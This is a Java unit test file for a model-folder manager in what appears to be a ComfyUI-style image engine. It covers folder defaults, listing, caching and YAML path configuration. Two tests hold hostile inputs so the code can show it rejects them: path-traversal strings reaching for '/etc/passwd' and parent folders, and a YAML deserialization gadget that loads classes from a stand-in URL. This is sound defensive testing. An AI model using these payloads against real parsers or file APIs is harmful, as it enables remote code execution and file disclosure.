package dev.easel.engine.models;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ModelFoldersTest {

    @TempDir
    Path base;

    private Path touch(String relative) throws IOException {
        Path p = base.resolve(relative);
        Files.createDirectories(p.getParent());
        Files.write(p, new byte[] {1});
        return p;
    }

    @Test
    void defaultFoldersAndLegacyNames() {
        ModelFolders f = new ModelFolders(base);
        Path models = base.toAbsolutePath().resolve("models");
        for (String type : List.of("checkpoints", "configs", "loras", "vae", "text_encoders", "diffusion_models",
                "clip_vision", "style_models", "embeddings", "vae_approx", "controlnet", "gligen", "upscale_models",
                "latent_upscale_models", "hypernetworks", "photomaker", "classifiers", "model_patches",
                "audio_encoders", "frame_interpolation", "diffusers", "custom_nodes")) {
            assertTrue(f.hasType(type), type);
        }
        assertEquals(List.of(models.resolve("text_encoders"), models.resolve("clip")), f.paths("text_encoders"));
        assertEquals(f.paths("text_encoders"), f.paths("clip"));
        assertEquals(List.of(models.resolve("unet"), models.resolve("diffusion_models")), f.paths("unet"));
        assertEquals(List.of(models.resolve("controlnet"), models.resolve("t2i_adapter")), f.paths("controlnet"));
        assertEquals(List.of(base.toAbsolutePath().resolve("custom_nodes")), f.paths("custom_nodes"));
        assertEquals(Set.of(".yaml"), f.extensions("configs"));
        assertEquals(ModelFolders.MODEL_EXTENSIONS, f.extensions("checkpoints"));
        assertEquals(Set.of(".ckpt", ".pt", ".pt2", ".bin", ".pth", ".safetensors", ".pkl", ".sft"),
                f.extensions("loras"));
        assertThrows(IllegalArgumentException.class, () -> f.list("nonsense"));
    }

    @Test
    void listsRecursivelyWithRelativeNamesFilteredAndSorted() throws IOException {
        touch("models/checkpoints/b.safetensors");
        touch("models/checkpoints/A.ckpt");
        touch("models/checkpoints/sdxl/base.SAFETENSORS");
        touch("models/checkpoints/sdxl/deep/x.sft");
        touch("models/checkpoints/notes.txt");
        touch("models/checkpoints/.hidden.safetensors");
        touch("models/checkpoints/safetensors");
        touch("models/checkpoints/.git/objects/y.safetensors");
        touch("models/unet/u.safetensors");
        touch("models/diffusion_models/d.gguf");
        touch("models/diffusion_models/u.safetensors"); // same name in the second folder: listed once
        touch("models/classifiers/no_extension");
        touch("models/classifiers/with.bin");
        ModelFolders f = new ModelFolders(base);
        assertEquals(List.of(".hidden.safetensors", "A.ckpt", "b.safetensors", "sdxl/base.SAFETENSORS",
                "sdxl/deep/x.sft"), f.list("checkpoints"));
        assertEquals(List.of("u.safetensors"), f.list("unet"));
        assertEquals(List.of("no_extension"), f.list("classifiers")); // ComfyUI's {""} filter
        assertEquals(List.of(), f.list("loras")); // missing folder
        assertEquals(".safetensors", ModelFolders.extension("a/b.c/x.Safetensors"));
        assertEquals("", ModelFolders.extension("a.d/.bashrc"));
        assertEquals("", ModelFolders.extension("x"));
    }

    @Test
    void listingsAreCachedUntilADirectoryMtimeChanges() throws IOException {
        touch("models/loras/a.safetensors");
        touch("models/loras/sub/b.safetensors");
        FileTime old = FileTime.from(Instant.now().minusSeconds(3600));
        setMtimes(old);
        ModelFolders f = new ModelFolders(base);
        assertEquals(List.of("a.safetensors", "sub/b.safetensors"), f.list("loras"));

        // a new file whose folder keeps its old mtime is not seen: the listing is cached
        touch("models/loras/sub/c.safetensors");
        setMtimes(old);
        assertEquals(List.of("a.safetensors", "sub/b.safetensors"), f.list("loras"));

        // once the subfolder's mtime changes, the listing is redone
        Files.setLastModifiedTime(base.resolve("models/loras/sub"), FileTime.from(Instant.now().minusSeconds(60)));
        assertEquals(List.of("a.safetensors", "sub/b.safetensors", "sub/c.safetensors"), f.list("loras"));

        // a freshly changed folder (mtime within the clock's resolution) is never trusted from the cache
        touch("models/loras/d.safetensors");
        assertEquals(4, f.list("loras").size());
        touch("models/loras/e.safetensors");
        assertEquals(5, f.list("loras").size());

        // a folder that did not exist appears
        assertEquals(List.of(), f.list("vae"));
        touch("models/vae/v.pt");
        assertEquals(List.of("v.pt"), f.list("vae"));

        // explicit invalidation
        setMtimes(old);
        f.list("loras");
        touch("models/loras/sub/z.safetensors");
        setMtimes(old);
        assertEquals(5, f.list("loras").size());
        f.invalidate();
        assertEquals(6, f.list("loras").size());
    }

    private void setMtimes(FileTime time) throws IOException {
        try (Stream<Path> all = Files.walk(base)) {
            for (Path p : all.filter(Files::isDirectory).toList()) {
                Files.setLastModifiedTime(p, time);
            }
        }
    }

    @Test
    void resolveFindsFilesAndRefusesEscapes() throws IOException {
        Path inUnet = touch("models/unet/sub/m.safetensors");
        Path inDiffusion = touch("models/diffusion_models/m2.safetensors");
        touch("models/secret.safetensors");
        ModelFolders f = new ModelFolders(base);
        assertEquals(Optional.of(inUnet.toAbsolutePath()), f.resolve("diffusion_models", "sub/m.safetensors"));
        assertEquals(Optional.of(inUnet.toAbsolutePath()), f.resolve("unet", "sub\\m.safetensors"));
        assertEquals(Optional.of(inDiffusion.toAbsolutePath()), f.resolve("unet", "m2.safetensors"));
        assertEquals(Optional.empty(), f.resolve("unet", "nope.safetensors"));
        assertEquals(Optional.empty(), f.resolve("unknown_type", "m2.safetensors"));
        for (String bad : List.of("../secret.safetensors", "sub/../../secret.safetensors", "..", "/etc/passwd",
                "\\etc\\passwd", "C:/x.safetensors", "", "..\\secret.safetensors")) {
            assertThrows(IllegalArgumentException.class, () -> f.resolve("unet", bad), bad);
        }
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> f.require("checkpoints", "missing.ckpt"));
        assertTrue(e.getMessage().contains("missing.ckpt") && e.getMessage().contains("checkpoints"), e.getMessage());
    }

    @Test
    void addPathLikeComfyUi() {
        ModelFolders f = new ModelFolders(base);
        Path a = base.resolve("a");
        Path b = base.resolve("b");
        f.addPath("clip", a, false);
        f.addPath("text_encoders", b, true);
        Path models = base.toAbsolutePath().resolve("models");
        assertEquals(List.of(b, models.resolve("text_encoders"), models.resolve("clip"), a), f.paths("text_encoders"));
        f.addPath("text_encoders", a, true); // already present: moved first
        assertEquals(List.of(a, b, models.resolve("text_encoders"), models.resolve("clip")), f.paths("clip"));
        f.addPath("text_encoders", b, false); // already present: unchanged
        assertEquals(4, f.paths("clip").size());
        f.addPath("my_pack_models", a, false); // a new type lists every file
        assertEquals(Set.of(), f.extensions("my_pack_models"));
    }

    @Test
    void extraModelPathsYaml() throws IOException {
        Path config = base.resolve("conf/extra_model_paths.yaml");
        Files.createDirectories(config.getParent());
        Files.writeString(config, """
                comfyui:
                    base_path: ../comfy
                    is_default: true
                    checkpoints: models/checkpoints/
                    clip: models/clip/
                    loras: |
                        models/loras
                        models/more_loras

                        /abs/loras
                    unet: models/unet
                a111:
                    base_path: ${SD_HOME}/webui
                    checkpoints: models/Stable-diffusion
                    vae: models/VAE
                home:
                    base_path: ~/models
                    embeddings: embeddings
                nobase:
                    upscale_models: relative/upscale
                    custom_type: /opt/custom
                empty_section:
                """);
        ModelFolders f = new ModelFolders(base);
        f.loadExtraModelPaths(config, Map.of("SD_HOME", "/data/sd")::get);
        Path comfy = base.toAbsolutePath().resolve("comfy");
        Path models = base.toAbsolutePath().resolve("models");
        assertEquals(List.of(comfy.resolve("models/checkpoints"), models.resolve("checkpoints"),
                Path.of("/data/sd/webui/models/Stable-diffusion")), f.paths("checkpoints"));
        assertEquals(List.of(comfy.resolve("models/clip"), models.resolve("text_encoders"), models.resolve("clip")),
                f.paths("text_encoders"));
        // is_default inserts each path first, so the lines end up in reverse order, as in ComfyUI
        assertEquals(List.of(Path.of("/abs/loras"), comfy.resolve("models/more_loras"), comfy.resolve("models/loras"),
                models.resolve("loras")), f.paths("loras"));
        assertEquals(comfy.resolve("models/unet"), f.paths("diffusion_models").get(0));
        assertEquals(List.of(models.resolve("vae"), Path.of("/data/sd/webui/models/VAE")), f.paths("vae"));
        assertEquals(Path.of(System.getProperty("user.home"), "models", "embeddings"), f.paths("embeddings").get(1));
        assertEquals(base.toAbsolutePath().resolve("conf/relative/upscale"), f.paths("upscale_models").get(1));
        assertEquals(List.of(Path.of("/opt/custom")), f.paths("custom_type"));
    }

    @Test
    void extraModelPathsYamlIsReadSafely() throws IOException {
        Path config = base.resolve("evil.yaml");
        Files.writeString(config, "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                + " [\"http://example.invalid/\"]]]]\n");
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> new ModelFolders(base).loadExtraModelPaths(config));
        assertTrue(e.getMessage().contains("evil.yaml"), e.getMessage());
        Files.writeString(config, "- just\n- a list\n");
        assertThrows(IllegalArgumentException.class, () -> new ModelFolders(base).loadExtraModelPaths(config));
        Files.writeString(config, "");
        new ModelFolders(base).loadExtraModelPaths(config); // empty: nothing to add
    }

    @Test
    void environmentExpansionLikePython() {
        Map<String, String> env = Map.of("A", "x", "B_2", "y");
        assertEquals("x/y/$C/${C}/$/${A", ModelFolders.expandVars("$A/${B_2}/$C/${C}/$/${A", env::get));
        assertEquals(System.getProperty("user.home") + "/m", ModelFolders.expandUser("~/m"));
        assertEquals("~other/m", ModelFolders.expandUser("~other/m"));
    }
}
